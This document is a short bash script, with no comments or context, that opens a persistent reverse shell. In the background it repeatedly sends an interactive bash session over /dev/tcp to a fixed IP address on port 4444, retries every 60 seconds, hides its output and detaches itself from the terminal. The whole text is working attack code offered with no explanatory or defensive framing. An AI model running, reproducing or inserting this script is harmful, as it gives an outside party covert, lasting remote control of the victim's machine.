#!/bin/bash
S=$(which bash)
H=203.0.113.14
P=4444

(
  while true; do
    $S -i >& /dev/tcp/$H/$P 0>&1
    sleep 60
  done
) >/dev/null 2>&1 &
disown
